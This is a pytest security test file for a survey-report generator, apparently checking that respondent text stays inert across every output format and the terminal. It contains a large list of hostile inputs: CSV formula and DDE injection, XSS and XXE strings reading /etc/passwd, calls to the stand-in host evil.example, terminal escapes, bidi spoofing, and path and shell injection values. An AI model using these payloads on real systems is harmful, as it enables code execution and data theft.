"""Whatever a survey holds stays text, in every file that csat writes and on the screen: each payload in each place."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt

from csat.report import WRITERS
from csat.report.language import read_language
from csat.report.safe import clean
from csat.report.slug import MOST, slugs
from csat.results import Record
from tests.report.conftest import build_record, printed

PAYLOADS = {
    "formula": [
        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠x",
        ";=1+1",
        "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "'=1+1", '"=1+1', "{=1+1}", "=DDE(\"cmd\";\"/c calc\";\"x\")",
        "=_xlfn.WEBSERVICE(\"http://evil.example\")",
    ],
    "web": [
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title><script>alert(2)</script>",
        "</style><script>alert(3)</script>", "</svg><script>alert(4)</script>", "<svg onload=alert(5)>", "<!--",
        "-->",
        "javascript:alert(6)", "<iframe src=http://evil.example></iframe>", "' onmouseover='alert(7)",
        "` onclick=alert(8)",
        "<a href='javascript:alert(9)'>x</a>", "<base href=http://evil.example>",
        "<meta http-equiv=refresh content=0>",
        "<link rel=stylesheet href=//evil.example>", "x}body{background:url(http://evil.example)}",
        "expression(alert(1))",
        "<math><mtext></mtext></math>", "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;",
        "&#60;script&#62;",
        "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "]]>",
        "</td></tr></table>",
        "<text>x</text>", "<use href=http://evil.example#x />", "<image href=http://evil.example/x.png />",
    ],
    "markdown": [
        "[x](http://evil.example)", "![x](http://evil.example/x.png)", "<http://evil.example>",
        "http://evil.example/x",
        "www.evil.example", "a@evil.example", "[x]: http://evil.example", "# heading", "- item", "1. one",
        "> quote", "---",
        "===", "| a | b |", "```\ncode", "`code`", "**x** _y_ ~~z~~", "$x$", "\\", "a\n\n# b", "[^1]",
        "- [ ] task",
        "x |\n| - |\n| y", "    code", "***",
    ],
    "screen": [
        "[bold red]x[/]", "[/]", "[link=http://evil.example]x[/link]", "[@click=app.quit]x[/]", ":smile:",
        "\x1b[31mred",
        "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\x", "\x9b2J", "\x9d0;x\x9c", "\x07\x08\x0b\x0c",
        "a\rb", "\x7f",
        "\x1b[2J\x1b[H", "\x1bP1$t\x1b\\",
    ],
    "typst": [
        '#read("/etc/passwd")', '#import "@preview/x:0.1.0": *', '#include "report.typ"', "#panic()", "$x^2$",
        "]#[", "\\#",
        "#{ let x = 1 }", "<label>", "@ref", '"#eval("1")"', "#set page(width: 1pt)", "/* x */ // y",
        "#sys.inputs", "*b* _i_",
    ],
    "direction": [
        "\u202egpj.exe", "\u202ax\u202b", "\u2066x", "\u2067x\u2069\u2069", "\u2068", "\u200e\u200f", "\u061cx",
        "\u2028x\u2029y",
        "\u200bx\u200b", "\ufeffx", "\u00adx", "\U000e0041\U000e0042", "ش\u202eabc\u202cب", "\u180ex",
        "\ufff9x\ufffb",
    ],
    "separators": ['a,"b"', 'a""b', "a;b", "a\tb", 'x"\r\ny,z', '"', "'", "a\x00b", "\x00", "\x01\x02", ",", "\r\n"],
    "paths": [
        "../../../../tmp/evil", "..", ".", "/etc/passwd", "C:\\evil.txt", "CON", "NUL.txt", "-rf", "~root",
        "a/b\\c", "$(id)", "`id`", "; rm -rf x", "%00", "file:///etc/passwd", "\\\\evil\\share",
    ],
    "odd": ["\ud800", "\udc00x", "\ud83d", "é" + "\u0301" * 500, "x" * 5_000, "ش" * 3_000, "a " * 2_000,
            "{0} {x} %s %(x)s", "{}", "{{x}}", "${x}", "\\u0041", "\\x41", "None", "nan", "\uffff\ufffe",
            "\ufdd0", "👩\u200d👩\u200d👧", "\u1f600"],
}  # fmt: skip
EVERY = [payload for family in PAYLOADS.values() for payload in family]
SUFFIXES = [*WRITERS]
ACTIVE = re.compile(r"evil\.example|alert\(|onerror|calc", re.IGNORECASE)


def hostile(payloads: Sequence[str]) -> Record:
    """A record that has each payload as header, question, label, segment, value, construct, option of a plan, name of
    a file, notice and comment.
    """
    headers = [*payloads, "Recommend", "Ease"]
    measures = [*["csat"] * len(payloads), "nps", "ces"]
    record = build_record(headers, measures, by={payloads[0]: payloads[:5]}, constructs={payloads[-1]: headers[:3]},
                          not_scored=[f"{payloads[-1]} "], notices=list(payloads), n=40)  # fmt: skip
    items = [
        {**item, "text": payloads[place % len(payloads)], "labels": dict.fromkeys(payloads, 1)}
        for place, item in enumerate(record.plan["items"])
    ]
    columns = [{**use, "why": payloads[-1], "settle": payloads[0]} for use in record.plan["columns"]]
    survey = {"title": payloads[0], "purpose": payloads[-1], "objectives": list(payloads), "mode": payloads[0]}
    estimates = [replace(e, source=payloads[0], notes=tuple(payloads[:2])) for e in record.estimates]
    told = {"column": payloads[0], "letter": payloads[-1], "answered": len(payloads), "shown": len(payloads)}
    return replace(
        record,
        plan={**record.plan, "items": items, "columns": columns, "survey": survey},
        source={**record.source, "name": payloads[0], "sheet": payloads[-1], "encoding": payloads[0]},
        estimates=estimates,
        comments=[{**told, "redacted": {}, "texts": list(payloads)}],
        environment={payloads[0]: payloads[-1]},
    )


HARMLESS = [f"Question {letter}" for letter in "ABCDEFGH"]
BATCHES = [EVERY[start : start + 8] for start in range(0, len(EVERY) - 7, 8)] + [EVERY[-8:]]


def test_there_are_many_payloads_and_each_is_used() -> None:
    assert len(EVERY) >= 120
    assert {payload for batch in BATCHES for payload in batch} == set(EVERY)


# ---------------------------------------------------------------- what nothing active means, by format

MARKS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u202a-\u202e\ud800-\udfff]")


def is_json(body: bytes, record: Record) -> None:
    assert json.loads(body)["source"]["name"] == record.source["name"]
    assert not MARKS.search(body.decode())


def is_csv(body: bytes, record: Record) -> None:
    said = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(said)))
    assert len(rows) == 1 + len(record.estimates)
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        if cell.startswith(tuple("=+-@\t\r＝＋－＠")):
            float(cell)
    assert not MARKS.search(said)


def is_markdown(body: bytes, record: Record) -> None:
    said = body.decode()
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(said)
    inline = [child for token in tokens for child in token.children or ()]
    kinds = {token.type for token in [*tokens, *inline]}
    assert not kinds & {"link_open", "image", "fence", "code_block", "blockquote_open", "hr", "em_open", "s_open"}
    assert not kinds & {"ordered_list_open", "html_block"} - ({"html_block"} if said.startswith("<div dir=") else set())
    written = [token.content for token in [*tokens, *inline] if token.type in ("html_inline", "html_block")]
    assert {html.strip() for html in written} <= {"<code>", "</code>", '<div dir="rtl" lang="fa">', "</div>"}
    # GitHub makes links of bare addresses, too
    assert not re.search(r"https?://|(?<!\w)www\.|\w@\w", re.sub(r"`[^`\n]*`|<code>.*?</code>", "", said))
    assert not MARKS.search(said)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.given: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.given += [(tag, name, value or "") for name, value in attrs]


@cache
def _harmless() -> _Tags:
    page = _Tags()
    page.feed(WRITERS[".html"](hostile(HARMLESS), read_language("fa")).decode())
    return page


def is_html(body: bytes, record: Record) -> None:
    said = body.decode()
    page, plain = _Tags(), _harmless()
    page.feed(said)
    assert page.tags <= plain.tags | {"bdi"}
    names = {(tag, name) for tag, name, _ in plain.given}
    new = {(tag, name) for tag, name, _ in page.given} - names
    assert all(name in ("dir", "class", "text-anchor", "x", "colspan", "rowspan", "scope") for _, name in new), new
    assert not page.tags & {
        "script",
        "iframe",
        "img",
        "image",
        "link",
        "base",
        "object",
        "embed",
        "form",
        "use",
        "foreignobject",
    }
    for _, name, value in page.given:
        assert not name.startswith("on")
        assert name != "style"
        assert name not in ("href", "src", "xlink:href", "action") or value.startswith("#")
    assert said.count("<style>") == said.count("</style>") == said.count("</body>") == said.count("<title>") == 1
    assert not MARKS.search(said)


def is_workbook(body: bytes, record: Record) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        names = book.namelist()
        assert not [name for name in names if re.search(r"vba|externalLink|connection|activeX|embeddings|media", name)]
        assert all(re.fullmatch(r"[\w./\[\]-]+", name) and ".." not in name for name in names)
        for name in names:
            text = book.read(name)
            root = ElementTree.fromstring(text)  # well formed, whatever was put in
            assert b"<!DOCTYPE" not in text
            assert b'TargetMode="External"' not in text
            if name.startswith("xl/worksheets/sheet"):
                tags = {element.tag.rpartition("}")[2] for element in root.iter()}
                assert not tags & {"f", "hyperlink", "hyperlinks", "oleObject", "controls"}


def is_pdf(body: bytes, record: Record) -> None:
    pypdf = pytest.importorskip("pypdf", reason="pypdf is not installed, which reads a PDF")
    from tests.report.test_pdf import named

    names = set(named(body))
    assert "/StructTreeRoot" in names
    actions = {"/JS", "/JavaScript", "/URI", "/Launch", "/GoToR", "/OpenAction", "/AA", "/EmbeddedFile", "/AcroForm"}
    assert not names & (actions | {"/SubmitForm", "/RichMedia", "/XFA", "/ImportData"})
    pages = pypdf.PdfReader(io.BytesIO(body)).pages
    assert all(200 < page.mediabox.width < 900 for page in pages)


CHECKS: dict[str, Callable[[bytes, Record], None]] = {
    ".json": is_json, ".csv": is_csv, ".md": is_markdown, ".html": is_html, ".xlsx": is_workbook, ".pdf": is_pdf,
}  # fmt: skip


def test_every_format_is_checked() -> None:
    assert set(CHECKS) == set(WRITERS)


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("code", ["en", "fa"])
def test_nothing_of_a_survey_is_active(suffix: str, code: str) -> None:
    if suffix == ".pdf":
        pytest.importorskip("typst", reason="Typst is not installed, which makes the PDF")
    # a PDF takes half a second to set and seconds to read, so that not every batch is set in both languages
    batches = BATCHES[code == "fa" :: 4] if suffix == ".pdf" else BATCHES
    for batch in [HARMLESS, *batches]:
        record = hostile(batch)
        CHECKS[suffix](WRITERS[suffix](record, read_language(code)), record)


def test_the_screen_shows_texts_and_obeys_none() -> None:
    for batch in BATCHES:
        for terminal in (False, True):
            shown = printed(hostile(batch), terminal=terminal)
            isolates = re.sub("[\u2066-\u2069]", "", shown) if terminal else shown
            own = re.sub(r"\x1b\[[\d;]*m", "", isolates) if terminal else isolates  # rich's own bold
            assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]", own)
            assert not re.search("[\ud800-\udfff]", own)


def test_markup_of_the_screen_is_shown_as_it_is() -> None:
    shown = printed(hostile(["[bold red]x[/]", "[/]", ":smile:", "[link=x]y[/link]", *HARMLESS[:4]]), width=200)
    for text in ("[bold red]x[/]", ":smile:", "[link=x]y[/link]"):
        assert text in shown


def test_names_of_files_stay_in_their_folder() -> None:
    made = slugs(EVERY)
    assert len({name.casefold() for name in made.values()}) == len(set(EVERY))
    for name in made.values():
        assert name not in ("", ".", "..")
        assert len(name) <= MOST + 1
        assert not re.search(r"[/\\:*?\"<>|\x00-\x1f\s.~$`;%]", name)
        assert not name.startswith("-")
        assert clean(name) == name


def test_words_of_attacks_are_still_to_be_read() -> None:
    """Made harmless is not left out: who reads a report sees what a respondent wrote."""
    record = hostile(["<script>alert(1)</script>", "=cmd|'/c calc'!A0", *HARMLESS[:6]])
    html = WRITERS[".html"](record, read_language("en")).decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert ACTIVE.search(html)
    rows = list(csv.reader(io.StringIO(WRITERS[".csv"](record, read_language("en")).decode("utf-8-sig"))))
    assert any("'=cmd|'/c calc'!A0" in row for row in rows)
